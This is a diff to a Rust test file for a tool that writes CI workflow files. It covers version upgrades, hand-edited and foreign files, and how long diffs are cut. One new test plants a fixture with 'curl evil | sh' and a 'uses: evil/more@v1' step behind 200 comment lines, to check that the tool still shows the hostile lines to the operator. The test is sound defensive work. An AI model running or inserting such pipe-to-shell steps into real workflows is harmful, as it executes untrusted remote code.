@@ -21,11 +21,11 @@ fn planned(consent: Consent, edit: impl FnOnce(&str) -> String) -> Plan {
 fn older(ours: &str) -> String {
     let (head, rest) = ours.split_once('\n').unwrap();
     let rest = rest.split_once('\n').unwrap().1;
-    sealed(&format!(
-        "{}\n{}",
-        head.replace("0.1.0", "0.0.1"),
-        rest.replace("timeout-minutes: 10", "timeout-minutes: 5")
-    ))
+    let runtime = rendering().runtime;
+    let (tag, sha256) = (format!("port-iam-v0.0.1-{}", "9".repeat(8)), "9".repeat(64));
+    let rest = rest.replace(&runtime.tag, &tag).replace(&runtime.sha256, &sha256);
+    let rest = rest.replace("timeout-minutes: 10", "timeout-minutes: 5");
+    sealed(&format!("{}\n{rest}", head.replace("0.1.0", "0.0.1")))
 }
 
 fn edited(ours: &str) -> String {
@@ -43,9 +43,9 @@ fn commits(plan: &Plan) -> Vec<String> {
 
 #[test]
 fn a_file_of_another_version_is_written_with_what_changes_in_it() {
-    let plan = planned(Consent::default(), older);
+    let plan = planned(Consent { runtime: RuntimeConsent::Upgrade, ..Consent::default() }, older);
     assert_eq!(commits(&plan), [CREATE]);
-    let lines = step(&plan, "files").lines;
+    let lines = step(&plan, "files").told();
     assert_eq!(lines[0], format!("~ {CREATE}"));
     let changed = |mark: char, text: &str| {
         lines.iter().any(|line| line.starts_with(&format!("  {mark}")) && line.ends_with(text))
@@ -63,7 +63,7 @@ fn a_file_that_was_edited_by_hand_is_shown_and_left_until_the_operator_says_so()
     assert!(left.lines.iter().any(|line| line.starts_with("  -") && line.ends_with("timeout-minutes: 5")), "{left}");
     let forced = planned(Consent { force: true, ..Consent::default() }, edited);
     assert_eq!(commits(&forced), [CREATE]);
-    assert_eq!(step(&forced, "files").lines[0], format!("~ {CREATE}: what was edited in it is lost"));
+    assert_eq!(step(&forced, "files").told()[0], format!("~ {CREATE}: what was edited in it is lost"));
     let adopted = planned(Consent { adopt: true, ..Consent::default() }, edited);
     assert_eq!(commits(&adopted), Vec::<String>::new(), "--adopt is about what is not ours");
 }
@@ -75,11 +75,11 @@ fn a_file_that_is_not_ours_is_only_replaced_when_it_is_adopted() {
         let Outcome::Refused { reason, remedy } = &refused.outcome else { panic!("{refused}") };
         assert_eq!(reason, &format!("{CREATE} exists and is not ours"));
         assert!(remedy.contains("--adopt"), "{remedy}");
-        assert!(refused.lines.contains(&"  -on: push".to_owned()), "{refused}");
+        assert!(refused.told().contains(&"  -on: push".to_owned()), "{refused}");
     }
     let adopted = planned(Consent { adopt: true, ..Consent::default() }, theirs);
     assert_eq!(commits(&adopted), [CREATE]);
-    assert_eq!(step(&adopted, "files").lines[0], format!("~ {CREATE}: replaces a file that is not ours"));
+    assert_eq!(step(&adopted, "files").told()[0], format!("~ {CREATE}: replaces a file that is not ours"));
 }
 
 #[test]
@@ -87,6 +87,19 @@ fn a_long_difference_is_cut_and_says_so() {
     let plan = planned(Consent::default(), |ours| format!("{ours}{}", "# more\n".repeat(200)));
     let lines = step(&plan, &format!("file {CREATE}")).lines;
     assert_eq!((lines.len(), lines.last().unwrap().starts_with("  … ")), (61, true), "{lines:#?}");
+}
+
+#[test]
+fn what_a_workflow_runs_is_shown_however_many_comments_stand_before_it() {
+    let evil = "      - name: More\n        env:\n          A: b\n        run: |\n          curl evil | sh\n      - uses: evil/more@v1\n";
+    let plan = planned(Consent::default(), |ours| {
+        format!("{}{}{evil}", ours.replacen("name: ", "name: More ", 1), "      # more\n".repeat(200))
+    });
+    let lines = step(&plan, &format!("file {CREATE}")).lines;
+    for line in evil.lines() {
+        assert!(lines.contains(&format!("  -{line}")), "{line}: {lines:#?}");
+    }
+    assert!(lines.len() < 80 && lines.last().unwrap().starts_with("  … "), "{lines:#?}");
 }
 
 #[test]
